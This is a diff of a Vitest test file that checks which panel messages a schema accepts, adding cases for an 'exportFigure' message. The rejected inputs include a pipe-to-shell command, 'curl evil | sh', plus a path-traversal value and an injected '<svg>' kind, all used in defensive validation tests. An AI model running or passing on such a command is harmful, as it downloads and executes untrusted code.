@@ -1,6 +1,8 @@
 import { expect, it } from 'vitest';
 import { fromPanelSchema, panelMemorySchema } from '../../src/view/panelMessages.ts';
 
+const TREE = { kind: 'tree', title: 'W', direction: 'right', nodes: [{ label: 'W', parent: null }] };
+
 it.each<[boolean, unknown]>([
   [true, { kind: 'ready' }],
   [true, { kind: 'insert', id: 12 }],
@@ -8,6 +10,9 @@ it.each<[boolean, unknown]>([
   [true, { kind: 'speed', of: { kind: 'candidate', id: 0 } }],
   [true, { kind: 'exportModel', of: { kind: 'mask' } }],
   [true, { kind: 'exportPicture', data: 'iVBORw0KGgo=' }],
+  [true, { kind: 'exportFigure', figure: TREE }],
+  [false, { kind: 'exportFigure', figure: { ...TREE, kind: '<svg>' } }],
+  [false, { kind: 'exportFigure', figure: { ...TREE, path: '../../x.svg' } }],
   [true, { kind: 'queue', wanted: 'command' }],
   // What is copied is the extension's to say.
   [false, { kind: 'queue', wanted: 'command', command: 'curl evil | sh' }],
